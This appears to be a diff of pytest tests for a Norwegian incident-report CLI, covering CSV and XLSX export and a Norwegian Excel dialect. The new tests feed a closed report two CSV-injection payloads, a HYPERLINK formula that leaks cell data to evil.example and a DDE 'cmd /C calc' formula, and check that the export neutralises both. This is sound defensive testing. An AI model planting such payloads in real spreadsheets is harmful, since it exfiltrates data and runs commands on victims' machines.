@@ -24,7 +24,7 @@ LEARNING_POINT = "Epikrisen <b>må</b> sendes samme dag – også i helgene (æ�
 
 @pytest.fixture
 def cli_settings(db_url: str) -> Settings:
-    return Settings(database_url=db_url, secret_key="test-secret")
+    return Settings(database_url=db_url, secret_key="test-secret" * 3)
 
 
 @pytest.fixture
@@ -116,8 +116,73 @@ def test_unsuppressed_and_annual(cli_settings, capsys, reports, tmp_path: Path) 
     (["--year", "0001"], "0001"),
 ])
 def test_a_bad_period_is_refused_in_words(sqlite_url, capsys, tmp_path, argv, words) -> None:
-    settings = Settings(database_url=sqlite_url, secret_key="test-secret")
+    settings = Settings(database_url=sqlite_url, secret_key="test-secret" * 3)
     target = tmp_path / "r.html"
     code, out, err = run(settings, capsys, "report", *argv, "--out", str(target))
     assert code == 2 and out == "" and words in err and err.startswith("meld: ")
     assert "Traceback" not in err and not target.exists()
+
+
+HOSTILE_POINT = '=HYPERLINK("https://evil.example/?d="&A1;"Se avtalen")'
+HOSTILE_MEASURE = "-2+3+cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile(ctx) -> str:
+    """A report closed with a learning point and a measure that a spreadsheet would run."""
+    ref = services.submit_report(ctx=ctx, actor=REPORTER, draft=draft()).reference
+    services.move_status(ctx=ctx, actor=GROUP, reference=ref, status="in_progress")
+    services.close(ctx=ctx, actor=GROUP, reference=ref, learning_point=HOSTILE_POINT,
+                   measure=HOSTILE_MEASURE)
+    return ref
+
+
+@pytest.mark.parametrize(("dialect", "delimiter"), [("standard", ","), ("excel-nb", ";")])
+def test_report_csv_defuses_formulas(cli_settings, capsys, hostile, tmp_path: Path, dialect,
+                                     delimiter) -> None:
+    target = tmp_path / "t1.csv"
+    code, _, _ = run(cli_settings, capsys, "report", "--tertial", "2026-T1", "--out",
+                     str(target), "--csv-dialect", dialect)
+    assert code == 0
+    raw = target.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""),
+                           delimiter=delimiter))
+    (learning,) = [r for r in rows if r and r[0] == "learning_point"]
+    assert learning[1] == hostile
+    assert learning[4:] == ["'" + HOSTILE_POINT, "'" + HOSTILE_MEASURE]
+    assert not [c for r in rows for c in r if c.startswith(("=", "+", "-", "@"))]
+
+
+def test_report_xlsx_keeps_formulas_as_text(cli_settings, capsys, hostile, tmp_path) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    target = tmp_path / "t1.xlsx"
+    assert run(cli_settings, capsys, "report", "--tertial", "2026-T1", "--out",
+               str(target))[0] == 0
+    ws = openpyxl.load_workbook(target)["Læringspunkter"]
+    point, measure = ws["D2"], ws["E2"]
+    assert (ws["A2"].value, point.value, measure.value) == (hostile, HOSTILE_POINT,
+                                                           HOSTILE_MEASURE)
+    assert point.data_type == measure.data_type == "s" and point.quotePrefix
+    assert measure.quotePrefix and not ws["A2"].quotePrefix
+
+
+def test_report_csv_for_a_norwegian_excel(cli_settings, capsys, reports, tmp_path) -> None:
+    """--csv-dialect excel-nb: semicolons, decimal commas and a byte-order mark, so a
+    Norwegian Excel opens it in columns with æøå right."""
+    target = tmp_path / "t1-nb.csv"
+    code, _, err = run(cli_settings, capsys, "report", "--tertial", "2026-T1", "--out",
+                       str(target), "--csv-dialect", "excel-nb")
+    assert code == 0 and "Forbedringsgruppen" in err
+    raw = target.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbfsection;key;label;count;previous;year_ago\n")
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert ["totals", "reports", "Meldinger i alt", "6", "0", "1"] in rows
+    assert ["totals", "feedback_share", "Andel meldinger der melderen fikk tilbakemelding",
+            "0,1667", "", ""] in rows
+    assert ["kind", "_total", "Sum", "6", "0", "1"] in rows  # the sum row has comparisons
+    assert any(r[1:2] == [reports[0]] and r[4] == LEARNING_POINT for r in rows)  # æøå
+    with pytest.raises(SystemExit) as refused:  # argparse: usage and the choices
+        run(cli_settings, capsys, "report", "--tertial", "2026-T1", "--out", str(target),
+            "--csv-dialect", "excel-se")
+    assert refused.value.code == 2 and "excel-nb" in capsys.readouterr().err
